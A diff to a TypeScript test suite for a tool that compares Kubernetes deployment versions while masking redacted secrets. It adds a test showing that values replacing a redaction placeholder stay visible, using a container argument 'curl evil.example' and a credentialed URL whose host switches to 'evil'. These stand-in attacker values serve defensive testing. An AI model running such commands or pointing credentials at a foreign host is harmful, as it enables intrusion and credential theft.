@@ -64,10 +64,8 @@ describe("two versions of an object", () => {
     const live = env("[redacted:env:3f2a9c1b]");
     const same = compare(live, env("[redacted:env:3f2a9c1b]"));
     const other = compare(live, env("[redacted:env:00000000]"));
-    const plain = compare(live, env("${PASSWORD}"));
     expect(same).toEqual({ differences: [], hidden: 1, more: 0 });
     expect(other).toEqual(same);
-    expect(plain).toEqual(same);
     const added = compare(deployment({ env: [{ name: "A" }] }), {
       ...deployment({ env: [{ name: "A" }, { name: "PASSWORD", value: "[redacted:env:3f2a9c1b]" }] }),
     });
@@ -76,6 +74,29 @@ describe("two versions of an object", () => {
         path: "spec.template.spec.containers[web].env[PASSWORD]",
         after: '{"name":"PASSWORD","value":"[redacted:env]"}',
       },
+    ]);
+  });
+
+  it("tell what stands in the place of something redacted, and beside it", () => {
+    const args = (...words: readonly string[]) => deployment({ args: words });
+    const place = "spec.template.spec.containers[web].args";
+    // The cluster may hold the placeholder itself, as text: what takes its place is not hidden by that.
+    expect(compare(args("sh", "[redacted:token]"), args("sh", "curl evil.example"))).toEqual({
+      differences: [{ path: `${place}[1]`, before: '"[redacted:token]"', after: '"curl evil.example"' }],
+      hidden: 0,
+      more: 0,
+    });
+    expect(compare(args("a", "[redacted:token:3f2a9c1b]"), args("b", "[redacted:token:00000000]"))).toEqual({
+      differences: [{ path: `${place}[0]`, before: '"a"', after: '"b"' }],
+      hidden: 1,
+      more: 0,
+    });
+    expect(compare(args("[redacted:token]"), args("[redacted:token]", "-v")).differences).toEqual([
+      { path: place, before: '["[redacted:token]"]', after: '["[redacted:token]","-v"]' },
+    ]);
+    const url = (host: string) => args(`--url=https://u:[redacted:password:3f2a9c1b]@${host}/`);
+    expect(compare(url("db"), url("evil")).differences).toMatchObject([
+      { before: expect.stringContaining("[redacted:password]@db/"), after: expect.stringContaining("@evil/") },
     ]);
   });
 
